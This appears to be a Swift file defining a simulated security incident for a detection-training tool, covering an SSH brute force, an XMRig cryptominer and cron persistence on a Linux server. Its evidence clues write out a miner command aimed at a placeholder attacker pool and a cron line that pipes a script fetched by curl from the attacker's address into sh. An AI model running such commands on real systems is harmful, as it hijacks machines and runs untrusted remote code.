extension Story {
    /// A server in Azure mines coins for someone else.
    static let cryptominer = Story(
        title: "Cryptocurrency mining on \(.linuxServer)",
        summary: "A weak password on \(.linuxServer) let someone in over SSH; a miner has used its processors since.",
        severity: .high,
        sizes: 2...6,
        spreadsFrom: 2,
        weight: 3,
        systemTags: [],
        endings: [
            Ending(.truePositive, .malware, "Miner removed, port closed, key rotated."),
            Ending(.truePositive, .unwantedSoftware, "Miner of a contractor; machine rebuilt."),
        ],
        stages: [
            Stage(
                "Successful SSH brute force attack",
                because: "After 6,418 failures from \(.attackerAddress) a sign-in to \(.linuxServer) worked.",
                by: .cloud,
                .microsoftDefenderForServers,
                .high,
                "InitialAccess",
                ["T1110.001", "T1078.003"],
                after: 0,
                clues: [
                    Clue(.azureResource(type: "Microsoft.Compute/virtualMachines", name: "\(.linuxServer)"), .attacked),
                    Clue(.address(.attacker), .attacker, .malicious),
                    Clue(.device(.linuxServer), .attacked),
                    Clue(.user(.administrator), .compromised),
                    Clue(.connection(port: 22, from: .linuxServer), .source),
                ]
            ),
            Stage(
                "Digital currency mining related behavior detected",
                because: "A process on \(.linuxServer) talks to a mining pool and uses all processors.",
                by: .cloud,
                .microsoftDefenderForServers,
                .high,
                "Impact",
                ["T1496"],
                after: 24,
                threat: Stage.Threat(name: "CoinMiner:Linux/XMRig.A", family: "XMRig"),
                clues: [
                    Clue(.device(.linuxServer), .attacked),
                    Clue(.azureResource(type: "Microsoft.Compute/virtualMachines", name: "\(.linuxServer)"), .attacked),
                    Clue(
                        .process(
                            image: "kworkerds",
                            folder: "/tmp/.X11-unix",
                            command:
                                "/tmp/.X11-unix/kworkerds -o pool.\(.attackerDomain):3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq -k",
                            parent: "bash"
                        ),
                        .attacker,
                        .malicious
                    ),
                    Clue(.file(name: "kworkerds", folder: "/tmp/.X11-unix"), .attacker, .malicious),
                    Clue(.dns("pool.\(.attackerDomain)"), .commandAndControl, .malicious),
                    Clue(.malware(name: "CoinMiner:Linux/XMRig.A", category: "CoinMiner"), .attacker, .malicious),
                ]
            ),
            Stage(
                "Suspicious cron job for persistence on \(.linuxServer)",
                because: "A cron entry that downloads and starts a script every minute was added on \(.linuxServer).",
                by: .endpoint,
                .microsoftDefenderForEndpoint,
                .medium,
                "Persistence",
                ["T1053.003"],
                after: 5,
                clues: [
                    Clue(.device(.linuxServer), .attacked, .malicious),
                    Clue(
                        .process(
                            image: "bash",
                            folder: "/usr/bin",
                            command:
                                "(crontab -l; echo '* * * * * curl -fsSL http://\(.attackerAddress)/i.sh|sh') | crontab -",
                            parent: "kworkerds"
                        ),
                        .attacker,
                        .malicious
                    ),
                    Clue(.url("http://\(.attackerAddress)/i.sh"), .source, .malicious),
                    Clue(.address(.elsewhere), .source, .malicious),
                    Clue(.file(name: "i.sh", folder: "/root"), .created, .malicious),
                ]
            ),
        ]
    )
}
